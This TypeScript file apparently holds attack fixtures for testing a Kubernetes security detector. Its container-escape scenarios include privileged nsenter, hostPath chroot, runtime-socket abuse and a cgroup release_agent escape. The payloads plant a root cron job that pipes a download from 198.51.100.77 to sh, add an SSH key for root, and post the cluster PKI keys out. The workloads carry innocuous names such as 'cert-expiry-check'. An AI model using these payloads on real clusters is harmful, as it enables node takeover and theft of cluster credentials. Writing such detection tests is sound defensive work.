import type { Actor, Scenario } from '../types.js';
import { compromisedDeveloper, serviceAccountToken } from './actors.js';
import {
  appsWorkload,
  container,
  cronJob,
  hostPathVolume,
  job,
  mount,
  pod,
  shell,
} from './manifests.js';
import { applyClientSide, create } from './steps.js';

/** A frontend pod's token; its namespace-scoped edit role is enough to create pods. */
const shopFrontendToken: Actor = serviceAccountToken({
  namespace: 'shop',
  serviceAccount: 'shop-frontend',
  pod: 'shop-frontend-5d7f8c9b6-h2kqp',
  node: 'ip-10-0-14-202.eu-west-1.compute.internal',
  podIP: '10.0.12.198',
  authorizationReason:
    'RBAC: allowed by ClusterRoleBinding "shop-frontend-edit" of ClusterRole "edit" to ServiceAccount "shop-frontend/shop"',
});

const base = {
  technique: 'T1611',
  kind: 'attack' as const,
  expect: { minSeverity: 'medium' as const },
};

/** Escapes to the node: host namespaces, host mounts, runtime sockets, capabilities. */
export const ESCAPE_SCENARIOS: Scenario[] = [
  {
    ...base,
    id: 'nsenter-hostpid-privileged-daemonset',
    title: 'Privileged hostPID DaemonSet entering PID 1 with nsenter',
    description:
      'On every node, nsenter -t 1 -m -u -i -n -p runs in the host namespaces and plants a root cron entry.',
    evasionClass: 'privileged + hostPID + nsenter',
    steps: [
      create(
        compromisedDeveloper,
        appsWorkload(
          'DaemonSet',
          { name: 'node-debugger', namespace: 'kube-system' },
          {
            hostPID: true,
            containers: [
              container('debugger', 'alpine:3.19', {
                command: [
                  'nsenter',
                  '-t',
                  '1',
                  '-m',
                  '-u',
                  '-i',
                  '-n',
                  '-p',
                  '--',
                  'sh',
                  '-c',
                  'echo "* * * * * root curl -s http://198.51.100.77/c | sh" > /etc/cron.d/node-update; sleep infinity',
                ],
                securityContext: { privileged: true },
              }),
            ],
            tolerations: [{ operator: 'Exists' }],
          },
        ),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    id: 'host-network-pid-pod',
    title: 'Pod sharing the host network and PID namespaces',
    description:
      "No payload in the spec: a netshoot pod that sleeps, waiting for kubectl exec, with the node's network and processes in view.",
    evasionClass: 'hostNetwork + hostPID, no payload',
    steps: [
      applyClientSide(
        compromisedDeveloper,
        pod(
          { name: 'net-diag', namespace: 'default' },
          {
            hostNetwork: true,
            hostPID: true,
            containers: [
              container('net-diag', 'nicolaka/netshoot:v0.12', { command: ['sleep', 'infinity'] }),
            ],
          },
        ),
      ),
    ],
  },
  {
    ...base,
    id: 'hostpath-root-job',
    title: 'Job mounting the node root and chrooting into it',
    description: 'hostPath / mounted at /host; chroot /host adds an SSH key for root.',
    evasionClass: 'hostPath / (node root)',
    steps: [
      create(
        compromisedDeveloper,
        job(
          { name: 'disk-usage-report', namespace: 'default' },
          {
            volumes: [hostPathVolume('host', '/')],
            containers: [
              container('report', 'busybox:1.36', {
                command: [
                  'chroot',
                  '/host',
                  '/bin/sh',
                  '-c',
                  'mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBq8cQ2mVn3kP7wYx4Lr9Zt0Hs6Ue1Df5Gj2Ka8Nb3Xc ops" >> /root/.ssh/authorized_keys',
                ],
                volumeMounts: [mount('host', '/host')],
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1552.004',
    id: 'hostpath-pki-cronjob',
    title: 'CronJob reading /etc/kubernetes/pki and posting it out',
    description:
      'A read-only hostPath under /etc: the cluster CA and keys, tarred and sent with curl.',
    evasionClass: 'hostPath prefix under /etc (kubernetes pki)',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'cert-expiry-check', namespace: 'kube-system' }, '*/30 * * * *', {
          volumes: [hostPathVolume('pki', '/etc/kubernetes/pki', 'Directory')],
          containers: [
            container('check', 'curlimages/curl:8.7.1', {
              ...shell(
                'tar czf - -C /pki . | curl -s -X POST --data-binary @- https://198.51.100.77/u',
              ),
              volumeMounts: [mount('pki', '/pki', true)],
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    id: 'containerd-socket-deployment',
    title: 'Deployment driving containerd through its socket',
    description:
      'hostPath /run/containerd/containerd.sock; ctr starts a privileged container with the node root bind-mounted.',
    evasionClass: 'container runtime socket (containerd)',
    steps: [
      create(
        compromisedDeveloper,
        appsWorkload(
          'Deployment',
          { name: 'image-prefetcher', namespace: 'kube-system' },
          {
            volumes: [hostPathVolume('containerd', '/run/containerd/containerd.sock', 'Socket')],
            containers: [
              container('prefetch', 'alpine:3.19', {
                ...shell(
                  'apk add --no-cache containerd-ctr && ctr -a /run/containerd/containerd.sock -n k8s.io run --rm --privileged --mount type=bind,src=/,dst=/host,options=rbind docker.io/library/alpine:3.19 x chroot /host sh -c "id > /tmp/x"',
                ),
                volumeMounts: [mount('containerd', '/run/containerd/containerd.sock')],
              }),
            ],
          },
          { replicas: 1 },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    id: 'crio-socket-pod',
    title: 'Pod talking to CRI-O through its socket',
    description:
      'A frontend token creates a pod that downloads crictl and lists every container on the node.',
    evasionClass: 'container runtime socket (CRI-O)',
    steps: [
      create(
        shopFrontendToken,
        pod(
          { name: 'crictl-debug', namespace: 'shop' },
          {
            volumes: [hostPathVolume('crio', '/var/run/crio/crio.sock', 'Socket')],
            containers: [
              container('crictl', 'alpine:3.19', {
                ...shell(
                  'wget -qO- https://github.com/kubernetes-sigs/cri-tools/releases/download/v1.29.0/crictl-v1.29.0-linux-amd64.tar.gz | tar xz -C /usr/local/bin && crictl --runtime-endpoint unix:///var/run/crio/crio.sock ps -a',
                ),
                volumeMounts: [mount('crio', '/var/run/crio/crio.sock')],
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
      ),
    ],
  },
  {
    ...base,
    id: 'capabilities-sys-admin-ptrace-job',
    title: 'Job with SYS_ADMIN and SYS_PTRACE abusing cgroup release_agent',
    description:
      'Not privileged, but SYS_ADMIN allows mounting a cgroup and setting release_agent to run on the host.',
    evasionClass: 'capabilities SYS_ADMIN + SYS_PTRACE',
    steps: [
      create(
        compromisedDeveloper,
        job(
          { name: 'perf-profiler', namespace: 'payments' },
          {
            containers: [
              container('profiler', 'ubuntu:22.04', {
                ...shell(
                  'mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir -p /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release && echo "$(sed -n \'s/.*upperdir=\\([^,]*\\).*/\\1/p\' /etc/mtab)/cmd" > /tmp/cg/release_agent && printf \'#!/bin/sh\\ncurl -s http://198.51.100.77/r | sh\\n\' > /cmd && chmod +x /cmd && sh -c "echo \\$\\$ > /tmp/cg/x/cgroup.procs"',
                  '/bin/bash',
                ),
                securityContext: { capabilities: { add: ['SYS_ADMIN', 'SYS_PTRACE'] } },
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'capabilities-all-replicaset',
    title: 'ReplicaSet adding every Linux capability',
    description: 'capabilities.add: [ALL] on an ordinary nginx image: privileged in all but name.',
    evasionClass: 'capabilities ALL, no payload',
    steps: [
      create(
        compromisedDeveloper,
        appsWorkload(
          'ReplicaSet',
          { name: 'sidecar-proxy', namespace: 'web' },
          {
            containers: [
              container('proxy', 'nginx:1.25', {
                ports: [{ containerPort: 80 }],
                securityContext: { capabilities: { add: ['ALL'] } },
              }),
            ],
          },
          { replicas: 1 },
        ),
        { followUps: 1 },
      ),
    ],
  },
];
